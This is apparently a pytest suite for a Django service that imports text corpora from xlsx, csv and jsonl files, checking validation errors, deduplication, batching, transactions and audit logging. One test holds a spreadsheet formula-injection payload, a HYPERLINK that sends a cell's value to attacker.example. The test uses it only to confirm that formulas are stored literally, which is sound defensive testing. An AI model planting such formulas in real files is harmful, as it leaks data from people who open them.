from __future__ import annotations

import io
import json
import subprocess
import sys

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection

from audit.models import AuditLog
from tests.helpers import SHARED_DATASETS, fresh_product_env, write_xlsx
from workers_app.importing.service import ImportRejected, import_corpus
from workers_app.models import Corpus, Sample

pytestmark = pytest.mark.django_db

HEADER = ("ID", "Text")


def rejected(path, **options) -> str:
    with pytest.raises(ImportRejected) as caught:
        import_corpus(path, actor="test", **options)
    assert Sample.objects.count() == 0 and Corpus.objects.count() == 0
    return str(caught.value)


def test_it_imports_every_sheet_of_an_xlsx_by_default(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"A": [HEADER, ("a1", "first"), ("a2", "second")],
                                                "B": [HEADER, ("b1", "third")]})
    report = import_corpus(path, actor="test")
    assert report.imported == 3
    assert list(Sample.objects.values_list("external_id", "source_sheet", "source_row")) == [
        ("a1", "A", 2), ("a2", "A", 3), ("b1", "B", 2)]


def test_it_reads_only_the_named_sheets(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"A": [HEADER, ("a1", "first")], "B": [HEADER, ("b1", "x")]})
    import_corpus(path, actor="test", sheets=["B"])
    assert list(Sample.objects.values_list("external_id", flat=True)) == ["b1"]


def test_it_names_the_sheets_that_exist_when_asked_for_a_missing_one(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"Train": [HEADER, ("a1", "x")]})
    message = rejected(path, sheets=["Test"])
    assert "no sheet 'Test'" in message and "'Train'" in message


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_it_imports_csv_with_or_without_a_byte_order_mark(tmp_path, encoding):
    path = tmp_path / "posts.csv"
    path.write_text('ID,Text\nc1,"line one\nline two"\nc2,"emoji 🙂, and ""quotes"""\n', encoding=encoding)
    import_corpus(path, actor="test")
    assert dict(Sample.objects.values_list("external_id", "text")) == {
        "c1": "line one\nline two", "c2": 'emoji 🙂, and "quotes"'}


def test_it_imports_jsonl_with_chosen_keys(tmp_path):
    path = tmp_path / "posts.jsonl"
    path.write_text("\n".join(json.dumps({"pid": f"j{i}", "body": f"text {i}"}) for i in range(3)) + "\n")
    import_corpus(path, actor="test", id_column="pid", text_column="body")
    assert Sample.objects.count() == 3


def test_it_refuses_a_missing_file():
    assert "no such file" in rejected("/nonexistent/posts.xlsx")


def test_it_refuses_a_file_that_is_not_a_spreadsheet(tmp_path):
    path = tmp_path / "notes.txt"
    path.write_text("hello")
    assert "not a spreadsheet" in rejected(path)


def test_it_refuses_a_corrupt_xlsx(tmp_path):
    good = write_xlsx(tmp_path / "good.xlsx", {"S": [HEADER, ("a", "b")]})
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(good.read_bytes()[:300])
    assert "xlsx" in rejected(broken)


def test_it_lists_the_columns_that_exist_when_the_id_column_is_missing(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [("Key", "Body"), ("a", "b")]})
    message = rejected(path)
    assert "no id column" in message and "'Key', 'Body'" in message and "--id-column" in message


def test_it_names_a_missing_text_column_given_by_the_user(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("a", "b")]})
    assert "no text column 'Message'" in rejected(path, text_column="Message")


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (("", "some text"), "row 3, field 'id': empty id"),
        (("x2", "   "), "row 3, field 'text': empty text"),
        (("x1", "again"), "row 3, field 'id': duplicate id 'x1' (first at sheet 'S' row 2)"),
    ],
)
def test_it_imports_nothing_and_names_the_row_of_a_bad_row(tmp_path, row, expected):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "fine"), row]})
    assert f"posts.xlsx, sheet 'S', {expected}" in rejected(path)


def test_it_refuses_a_text_over_100000_characters(tmp_path):
    # xlsx cells stop at 32,767 characters, so such a text can only come from csv or jsonl.
    path = tmp_path / "posts.csv"
    path.write_text(f"ID,Text\nx1,fine\nx2,{'y' * 100_001}\n")
    message = rejected(path)
    assert "posts.csv, row 3, field 'text': text is 100,001 characters; the limit is 100,000" in message


def test_it_refuses_an_id_that_exists_with_different_text(tmp_path):
    write_xlsx(tmp_path / "one.xlsx", {"S": [HEADER, ("x1", "original")]})
    import_corpus(tmp_path / "one.xlsx", actor="test")
    write_xlsx(tmp_path / "two.xlsx", {"S": [HEADER, ("x1", "changed"), ("x2", "new")]})
    with pytest.raises(ImportRejected, match=r"id 'x1' already exists \(corpus #\d+\) with different text"):
        import_corpus(tmp_path / "two.xlsx", actor="test")
    assert list(Sample.objects.values_list("external_id", "text")) == [("x1", "original")]


def test_it_counts_an_id_present_with_the_same_text_as_already_there(tmp_path):
    write_xlsx(tmp_path / "one.xlsx", {"S": [HEADER, ("x1", "same")]})
    import_corpus(tmp_path / "one.xlsx", actor="test")
    write_xlsx(tmp_path / "two.xlsx", {"S": [HEADER, ("x1", "same"), ("x2", "new")]})
    report = import_corpus(tmp_path / "two.xlsx", actor="test")
    assert (report.imported, report.already_present) == (1, 1)


def test_it_imports_the_valid_rows_and_lists_the_rest_when_told_to_skip(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "fine"), ("", "orphan"), ("x3", "")]})
    report = import_corpus(path, actor="test", skip_invalid=True)
    assert report.imported == 1
    assert [p.row for p in report.skipped] == [3, 4]


def test_reimporting_the_same_file_is_a_no_op_that_says_so(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "fine")]})
    import_corpus(path, actor="test")
    report = import_corpus(path, actor="test")
    assert report.already_imported and "already imported" in report.summary()
    assert Corpus.objects.count() == 1 and Sample.objects.count() == 1


def test_it_audits_successful_and_refused_imports(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "fine")]})
    import_corpus(path, actor="alice")
    with pytest.raises(ImportRejected):
        import_corpus(tmp_path / "missing.xlsx", actor="alice")
    rows = list(AuditLog.objects.order_by("id").values_list("actor", "action", "result"))
    assert rows == [("alice", "import_corpus", "ok"), ("alice", "import_corpus", "failed")]


def test_the_command_fails_with_the_problem_and_imports_nothing(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "")]})
    with pytest.raises(CommandError, match="row 2, field 'text': empty text"):
        call_command("import_corpus", str(path))
    assert Sample.objects.count() == 0


def test_the_command_exits_non_zero_on_bad_input(tmp_path):
    result = subprocess.run([sys.executable, "manage.py", "import_corpus", str(tmp_path / "nope.csv")],
                            env=fresh_product_env(tmp_path / "data"), capture_output=True, text=True, check=False)
    assert result.returncode != 0
    assert "no such file" in result.stderr


def test_it_imports_a_cut_xlsx_cell_with_a_warning_when_told_to(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "y" * 40_000), ("x2", "short")]})
    report = import_corpus(path, actor="test", allow_cut_cells=True)
    assert report.imported == 2
    assert [str(w) for w in report.warnings] == [
        ("posts.xlsx, sheet 'S', row 2, field 'text': exactly 32,767 characters, the most an xlsx cell holds: "
         "probably cut short when the file was saved; imported as it is")]
    assert len(Sample.objects.get(external_id="x1").text) == 32_767
    assert "1 text(s) probably cut at the xlsx cell limit" in report.summary()


def test_the_command_imports_cut_cells_with_a_warning_when_told_to(tmp_path):
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", "y" * 32_767)]})
    errors, output = io.StringIO(), io.StringIO()
    call_command("import_corpus", str(path), "--allow-cut-cells", stderr=errors, stdout=output)
    assert "warning: posts.xlsx, sheet 'S', row 2, field 'text': exactly 32,767 characters" in errors.getvalue()
    assert "imported 1 sample(s)" in output.getvalue()


@pytest.mark.parametrize("name", ["posts.csv", "posts.jsonl"])
def test_a_text_of_32767_characters_is_whole_in_csv_and_jsonl(tmp_path, name):
    text = "é" * 32_767
    path = tmp_path / name
    content = f"ID,Text\nx1,{text}\n" if name.endswith(".csv") else json.dumps({"id": "x1", "text": text}) + "\n"
    path.write_text(content, encoding="utf-8")
    report = import_corpus(path, actor="test")
    assert (report.imported, report.warnings) == (1, [])
    assert Sample.objects.get().text == text


def test_it_imports_a_formula_as_its_literal_text_without_evaluating_it(tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?leak="&A2,"click me")'
    path = write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, ("x1", formula)]})
    import_corpus(path, actor="test")
    assert Sample.objects.get().text == formula


def test_it_keeps_whole_number_ids_from_xlsx_and_jsonl(tmp_path):
    write_xlsx(tmp_path / "posts.xlsx", {"S": [HEADER, (7, "seven")]})
    (tmp_path / "posts.jsonl").write_text('{"id": 8, "text": "eight"}\n{"id": 9.0, "text": "nine"}\n')
    import_corpus(tmp_path / "posts.xlsx", actor="test")
    import_corpus(tmp_path / "posts.jsonl", actor="test")
    assert sorted(Sample.objects.values_list("external_id", flat=True)) == ["7", "8", "9"]


def test_it_skips_rows_whose_values_are_no_text_when_told_to(tmp_path):
    path = tmp_path / "posts.jsonl"
    path.write_text('{"id": "a", "text": "fine"}\n{"id": "b", "text": true}\n{"id": "c", "text": "x\\u0000"}\n')
    report = import_corpus(path, actor="test", skip_invalid=True)
    assert report.imported == 1
    assert [str(p) for p in report.skipped] == [
        "posts.jsonl, line 2, field 'text': a true/false value (True) where a text must be",
        ("posts.jsonl, line 3, field 'text': control character U+0000 at character 2: only tab, line feed and "
         "carriage return may be in a text; the file may be damaged or binary")]


def test_it_imports_more_rows_than_one_batch_and_counts_those_already_there(tmp_path):
    rows = [f"r{i},post number {i}" for i in range(2_345)]
    (tmp_path / "first.csv").write_text("ID,Text\n" + "\n".join(rows[:1_200]) + "\n")
    (tmp_path / "all.csv").write_text("ID,Text\n" + "\n".join(rows) + "\n")
    import_corpus(tmp_path / "first.csv", actor="test")
    report = import_corpus(tmp_path / "all.csv", actor="test")
    assert (report.imported, report.already_present) == (1_145, 1_200)
    assert Sample.objects.count() == 2_345
    assert Sample.objects.get(external_id="r2344").source_row == 2_346


@pytest.mark.django_db(transaction=True)
def test_it_reads_and_checks_the_whole_file_with_no_transaction_open(tmp_path):
    path = tmp_path / "posts.csv"
    path.write_text("ID,Text\n" + "".join(f"r{i},post {i}\n" for i in range(1_500)))
    in_transaction = []
    import_corpus(path, actor="test", progress=lambda _: in_transaction.append(connection.in_atomic_block))
    assert len(in_transaction) == 1_500 and not any(in_transaction)
    assert Sample.objects.count() == 1_500


@pytest.mark.django_db(transaction=True)
def test_an_import_that_loses_a_race_with_another_of_the_same_file_is_refused_cleanly(tmp_path):
    path = tmp_path / "posts.csv"
    path.write_text("ID,Text\nx1,fine\nx2,also fine\n")
    rival = []

    def import_the_same_file_meanwhile(_: int) -> None:
        if not rival:
            rival.append(import_corpus(path, actor="rival"))

    with pytest.raises(ImportRejected, match="another import stored this file or some of its ids"):
        import_corpus(path, actor="test", progress=import_the_same_file_meanwhile)
    assert Corpus.objects.get().imported_by == "rival" and Sample.objects.count() == 2
    assert list(AuditLog.objects.order_by("id").values_list("actor", "result")) == [("rival", "ok"), ("test", "failed")]


@pytest.mark.skipif(not SHARED_DATASETS.exists(), reason="../shared/datasets is not beside this clone")
def test_it_imports_the_1871_real_posts():
    call_command("import_corpus", str(SHARED_DATASETS / "mh_posts_1871.xlsx"))
    assert Sample.objects.count() == 1871
    assert Sample.objects.filter(external_id="ID-1871").exists()


@pytest.mark.skipif(not SHARED_DATASETS.exists(), reason="../shared/datasets is not beside this clone")
def test_it_imports_the_three_sheet_file_with_its_id_column():
    call_command("import_corpus", str(SHARED_DATASETS / "mh_help_51_three_sheets.xlsx"), id_column="Sample_ID")
    assert Sample.objects.count() == 50
    assert set(Sample.objects.values_list("source_sheet", flat=True)) == {"Train", "Validation", "Test"}
